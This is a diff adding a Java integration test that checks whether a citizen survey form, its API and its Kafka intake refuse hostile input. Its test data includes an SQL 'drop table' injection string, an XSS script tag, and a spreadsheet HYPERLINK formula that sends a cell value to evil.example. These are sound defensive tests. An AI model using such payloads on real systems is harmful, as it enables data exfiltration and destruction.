@@ -97,6 +97,56 @@ class HostileInputsIT {
         refused += rest + expected;
     }
 
+    /**
+     * The anonymous form (from one address, through the ingress) and the respondent attributes on every door:
+     * hostile posts get a clear 4xx page, never a 500 or a stored response; a spreadsheet formula is no ethnic group.
+     */
+    @Test
+    void theCitizenFormAndTheRespondentAttributesRefuseHostileInput() throws Exception {
+        String run = "hostile-form-" + UUID.randomUUID().toString().substring(0, 6);
+        String code = sut.registerReceipts(run, 1).get(0);
+        String pin = sut.pin(code);
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")";
+        String answers = "&responseId=" + UUID.randomUUID() + "&questionnaireVersion=1&channel=counter&q_2.2.1-q1=1&q_2.2.2-q1=1"
+                + "&q_2.2.3-q1=1";
+        byte[] badUtf8 = "receiptCode=\u00c3(&pin=123456".getBytes(StandardCharsets.ISO_8859_1);
+        List<byte[]> bodies = new ArrayList<>(List.of(badUtf8, new byte[0], "%%%&&==&".getBytes(StandardCharsets.UTF_8)));
+        for (String body : List.of("receiptCode=" + encode("x'; drop table survey_response; --") + "&pin=123456",
+                "receiptCode=" + encode(code) + "&pin=" + encode("<script>alert(1)</script>"),
+                "receiptCode=" + encode("Đ".repeat(200_000)) + "&pin=123456",
+                "receiptCode=" + encode(code) + "&pin=" + pin + answers.replace("questionnaireVersion=1", "questionnaireVersion=one"),
+                "receiptCode=" + encode(code) + "&pin=" + pin + answers + "&ethnicGroup=" + encode(formula),
+                "receiptCode=" + encode(code) + "&pin=" + pin + answers.replace("channel=counter", "channel=" + encode(formula)))) {
+            bodies.add(body.getBytes(StandardCharsets.UTF_8));
+        }
+        for (byte[] body : bodies) {
+            HttpResponse<String> answer = FaultsIT.HTTP.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(sut.url("survey") + "/khao-sat"))
+                    .header("Content-Type", "application/x-www-form-urlencoded").header("X-Forwarded-For", "192.0.2.77")
+                    .POST(java.net.http.HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString());
+            assertThat(answer.statusCode()).as(abbreviate(answer.body())).isIn(400, 413, 429);
+            assertThat(answer.body()).doesNotContain("Exception").doesNotContain("at vn.parsipas");
+        }
+        assertThat(sut.count("survey", "select count(*) from survey_response where receipt_code = '" + code + "'")).isZero();
+
+        ObjectNode response = sut.surveyResponse(null, 4);
+        ((ObjectNode) response.get("respondent")).put("ethnicGroup", formula);
+        HttpResponse<String> rest = FaultsIT.postBytes(sut.url("survey") + "/api/v1/responses", sut.client.systemToken("survey-kiosk"),
+                response.toString().getBytes(StandardCharsets.UTF_8));
+        assertThat(rest.statusCode()).isEqualTo(400);
+        assertThat(rest.body()).contains("respondent.ethnicGroup");
+        kafka.send("sipas.responses.v1", run + "-formula", kafka.envelope(run + "-formula", FaultsIT.RESPONSE,
+                "survey-response-submitted.v1", "/survey-kiosk", "formula", response));
+        kafka.flush();
+        await().atMost(FaultsIT.PATIENCE).untilAsserted(() -> assertThat(deadLetters(run)).isOne());
+        assertThat(sut.count("survey", "select count(*) from survey_response where ethnic_group like '=%'")).isZero();
+        tried += bodies.size() + 2;
+        refused += bodies.size() + 2;
+    }
+
+    private static String encode(String text) {
+        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
+    }
+
     @Test
     void hugeExponentsThroughJsonCsvAndKafkaAreRefusedWithAShortReasonAndTheDoorsStayOpen() throws Exception {
         String run = "HUGE-" + UUID.randomUUID().toString().substring(0, 6).toUpperCase();
